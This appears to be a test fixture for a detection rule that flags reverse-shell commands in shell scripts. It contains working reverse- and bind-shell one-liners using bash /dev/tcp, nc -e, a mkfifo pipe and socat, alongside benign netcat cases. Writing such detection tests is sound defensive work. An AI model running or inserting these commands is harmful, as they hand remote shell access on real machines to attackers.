#!/bin/sh

call_in() {
    # ruleid: reverse-shell-line
    bash -i >& /dev/tcp/198.51.100.7/4444 0>&1
}

door() {
    while true; do
        # ruleid: reverse-shell-line
        nc -l -p 2999 -e /bin/sh
    done
}

pipe_door() {
    mkfifo /tmp/.p
    # ruleid: reverse-shell-line
    cat /tmp/.p | /bin/sh -i 2>&1 | nc "$HOST" 443 > /tmp/.p
    # ruleid: reverse-shell-line
    socat TCP-LISTEN:7777,fork EXEC:/bin/ash
}

cat > /tmp/.job <<'END'
# ruleid: reverse-shell-line
exec 5<>/dev/tcp/$PEER/8080
END

port_open() {
    # ok: reverse-shell-line
    nc -z -w 1 "$1" 22
}

send_report() {
    # ok: reverse-shell-line
    tar czf - /var/log | nc collector.example 9000
}

interactive() {
    # ok: reverse-shell-line
    /bin/sh -i
    # ok: reverse-shell-line
    sh ./setup.sh | tee setup.log
}
